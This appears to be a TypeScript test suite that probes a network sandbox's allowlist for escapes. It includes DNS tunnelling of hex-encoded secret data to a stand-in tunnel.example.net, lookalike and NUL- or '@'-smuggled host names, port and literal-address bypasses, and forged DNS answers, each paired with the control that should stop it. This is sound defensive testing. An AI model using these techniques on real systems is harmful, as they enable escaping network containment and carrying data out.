import { judged } from "../security/attack.ts";
import type { NetworkSandbox } from "./ground.ts";
import { addresses } from "./plan.ts";
import {
  apiAddress,
  judgedByWire,
  type NetworkField,
  type NetworkRow,
  otherAddress,
  sharedAddress,
  strays,
  talked,
  tunnelsOf,
} from "./row.ts";

const transports = ["udp", "tcp"] as const;

/** Who asks, and how: a proxy carries no datagrams. */
const askersOf = (field: NetworkField, sandbox: NetworkSandbox) => [
  [sandbox.probe, "udp"] as const,
  ...tunnelsOf(field, sandbox).map((probe) => [probe, "tcp"] as const),
];

/** Dials each from the allowlisted sandbox; whatever leaves the host is a way out. */
const dialled = (field: NetworkField, targets: readonly string[]) =>
  judgedByWire(field, () => talked(field, field.narrow, targets));

export const nameRows: readonly NetworkRow[] = [
  {
    id: "net-own-resolver",
    title: "asks a resolver of its own choice",
    tried:
      "UDP and TCP port 53 of 8.8.8.8, 1.1.1.1, the operator's resolver and a private address; by a proxy under an allowlist, as without one TCP to a public address is allowed on any port",
    control: "port 53 of every address is answered by the sandbox's own resolver; beside a proxy there is no route",
    attempt: async (field) => {
      await field.internet.forget();
      const answers: string[] = [];
      const allowlisted = askersOf(field, field.narrow).slice(transports.length);
      for (const [probe, transport] of [...transports.map((one) => [field.open.probe, one] as const), ...allowlisted])
        for (const server of [...addresses.publicResolvers, addresses.resolver4, "10.99.0.7"]) {
          const told = await probe.ask(transport, `${server}:53`, "api.example.com", "A");
          answers.push(...(told.answers.length > 0 ? told.answers.map(({ data }) => data) : [told.code]));
        }
      const records = await field.internet.records();
      const asked = records.queries.filter(({ at }) => at !== addresses.resolver4);
      const own =
        field.level === "transparent" ? /^198\.1[89]\./ : /^(no route|network is unreachable|connection refused|403 )/;
      const foreign = answers.filter((answer) => !own.test(answer));
      const found = [
        ...strays(records).map(({ destination }) => `packet to ${destination}`),
        ...asked.map(({ at, name }) => `${at} was asked for ${name}`),
        ...foreign.map((answer) => `answered ${answer}`),
      ];
      return judged(found.length > 0, found.join(", ") || [...new Set(answers)].join(", "));
    },
  },
  {
    id: "net-dns-tunnel",
    title: "carries data out in names that it asks for, under an allowlist",
    tried:
      "A, AAAA, TXT, CNAME, MX, HTTPS and TYPE10 queries with data in a label, by UDP and TCP, to its own and to known resolvers; TXT of an allowed name",
    control: "the resolver answers only names that the policy allows, and asks nobody else of the others",
    attempt: async (field) => {
      await field.internet.forget();
      const said: string[] = [];
      const data = Buffer.from("a secret carried out").toString("hex");
      for (const [probe, transport] of askersOf(field, field.narrow))
        for (const server of ["198.18.0.2", "8.8.8.8"])
          for (const type of ["A", "AAAA", "TXT", "CNAME", "MX", "HTTPS", "TYPE10"]) {
            const told = await probe.ask(transport, `${server}:53`, `${data}.tunnel.example.net`, type);
            said.push(told.code);
            for (const answer of told.answers) said.push(answer.data);
          }
      await field.narrow.probe.ask("udp", "198.18.0.2:53", "api.example.com", "TXT");
      said.push(
        ...(await talked(field, field.narrow, [`${data}.tunnel.example.net:443`, `${data}.tunnel.example.net:80`])),
      );
      const { queries } = await field.internet.records();
      const found = queries.filter(({ name, type }) => name.includes(data) || type === "TXT");
      return judged(
        found.length > 0 || said.some((word) => word.includes("tunnel")),
        found.map(({ name, type, at }) => `${at} was asked for ${type} ${name}`).join(", ") ||
          [...new Set(said)].join(", "),
      );
    },
  },
  {
    id: "net-lookalikes",
    title: "reaches a name that looks like an allowed one",
    tried: "an allowed name as prefix, suffix and part of others, with a NUL, a blank and a dot too many",
    control: "names are compared whole, label by label",
    attempt: async (field) => {
      const names = [
        "api.example.com.evil.example.net",
        "xapi.example.com",
        "api-example.com",
        "api.example.comx",
        "example.com",
        "deep.api.example.com",
        "evilwild.example.com",
        "a.wild.example.com.example.net",
      ];
      await field.internet.say(Object.fromEntries(names.map((name) => [name, { a: [otherAddress] }])));
      const odd = ["api.example.com\0.evil.example.net", "api..example.com", " api.example.com"];
      const queried = async () => {
        for (const name of odd) await field.narrow.probe.ask("udp", "198.18.0.2:53", name, "A");
        // A proxy is told names as they are written.
        const written = [
          "api.example.com%00.evil.example.net",
          "api..example.com",
          "api.example.com@evilwild.example.com",
        ];
        if (field.level === "proxy")
          await talked(
            field,
            field.narrow,
            written.map((name) => `${name}:443`),
          );
      };
      const wire = await dialled(
        field,
        names.flatMap((name) => [`${name}:443`, `${name}:80`]),
      );
      await queried();
      const asked = (await field.internet.records()).queries.filter(({ name }) => name !== "api.example.com");
      return asked.length > 0 ? judged(true, asked.map(({ name }) => `asked for ${name}`).join(", ")) : wire;
    },
  },
  {
    id: "net-apex",
    title: "reaches the name itself where only names below it are allowed",
    tried: "wild.example.com under *.wild.example.com",
    control: "a wildcard stands for names below, not for the name",
    attempt: (field) => dialled(field, ["wild.example.com:443", "wild.example.com:80"]),
  },
  {
    id: "net-other-port",
    title: "reaches another port of an allowed name or network",
    tried: "api.example.com on 80 and 22 where 443 is allowed; 198.51.100.7 on 443 where 80 is",
    control: "rules name ports",
    attempt: (field) => dialled(field, ["api.example.com:80", "api.example.com:22", "198.51.100.7:443"]),
  },
  {
    id: "net-literal-of-name",
    title: "reaches the address of an allowed name without the name",
    tried: `${apiAddress} and ${sharedAddress} by literal, on the ports that their names are allowed on`,
    control: "a literal is allowed by networks alone",
    attempt: (field) => dialled(field, [`${apiAddress}:443`, `${apiAddress}:80`, `${sharedAddress}:443`]),
  },
  {
    id: "net-shared-address",
    title: "reaches another name at the address of an allowed one",
    tried:
      "two.example.com where one.example.com, at the same address, is allowed: by its own name and by addresses that its resolver never gave out",
    control: "each name has an address of its own inside; names are judged, not addresses",
    attempt: async (field) => {
      await field.narrow.probe.lookup("one.example.com");
      return await dialled(field, ["two.example.com:443", "198.19.200.200:443", "198.18.255.1:443"]);
    },
  },
  {
    id: "net-forged-answer",
    title: "is led elsewhere by a forged answer of the network",
    tried: "answers with another id, for another name, and with records of other names beside, before the true one",
    control: "the gateway takes answers to its own question alone, and judges each address",
    attempt: async (field) => {
      await field.internet.say({
        "forged-id.example.net": { a: [apiAddress], forged: { as: "id", a: "203.0.113.66" } },
        "forged-name.example.net": { a: [apiAddress], forged: { as: "name", a: "203.0.113.66" } },
        "beside.example.net": {
          a: [apiAddress],
          beside: [{ name: "victim.example.net", type: "A", ttl: 3600, data: "203.0.113.66" }],
        },
        "victim.example.net": { a: [otherAddress] },
      });
      return await judgedByWire(
        field,
        async () => {
          const said: string[] = [];
          for (const name of ["forged-id", "forged-name", "beside", "victim"])
            said.push(...(await talked(field, field.open, [`${name}.example.net:80`])));
          if (!said.includes("connected")) throw new Error(`no name was reached at all: ${said.join(", ")}`);
          return said;
        },
        ({ destination }) => [apiAddress, otherAddress].includes(destination),
      );
    },
  },
];
